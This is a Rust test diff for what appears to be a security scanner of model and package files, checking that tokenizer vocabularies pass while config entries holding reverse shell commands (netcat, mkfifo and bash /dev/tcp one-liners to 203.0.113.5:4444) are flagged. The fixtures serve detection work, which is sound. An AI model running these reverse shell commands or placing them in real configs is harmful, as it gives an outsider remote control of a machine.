@@ -136,6 +136,33 @@ fn a_conda_package_is_told_by_its_index() {
 }
 
 #[test]
+fn words_of_different_strings_make_no_command() {
+    let vocabulary =
+        br##"{"bash":1,"-i":2,">":3,"/dev/tcp/":4,"/dev/tcp/1/2":5,"powershell":6,"-enc":7,"AAAAAAAAAAAAAAAAAAAA":8}"##;
+    assert_eq!(scan("tokenizer.json", vocabulary), Report::default());
+    for command in [
+        "nc 203.0.113.5 4444 -e /bin/sh",
+        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
+    ] {
+        let report = scan("config.yaml", format!("entry: {command}\n").as_bytes());
+        assert_eq!(report.findings.len(), 1, "{report:?}");
+        assert_eq!(report.findings[0].rule, "S516");
+    }
+    assert_eq!(scan("config.json", br#"{"SHELL": "/bin/bash", "entrypoint": "/bin/sh -c train"}"#), Report::default());
+    let command = br##"{"run": "sh -c \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\""}"##;
+    assert_eq!(scan("config.json", command).worst(), Some(Severity::Critical));
+}
+
+#[test]
+fn a_static_library_is_one_fact() {
+    let elf = std::fs::read(fixtures().join("executables/named/tool")).unwrap();
+    let library = [&b"!<arch>\n"[..], &elf, &elf, &elf].concat();
+    let report = scan("libdemo.a", &library);
+    assert_eq!(report.worst(), Some(Severity::Info));
+    assert_eq!(report.findings.len(), 2, "{:#?}", report.findings);
+}
+
+#[test]
 fn floods_end() {
     // A hundred thousand places of each costly kind; none is an executable.
     for flood in [&b"PE\0\0\x64\x86"[..], b"\x7fELF", b"#!/bin/sh\n\0", b"@echo off\n\0", b"powershell -enc \0"] {
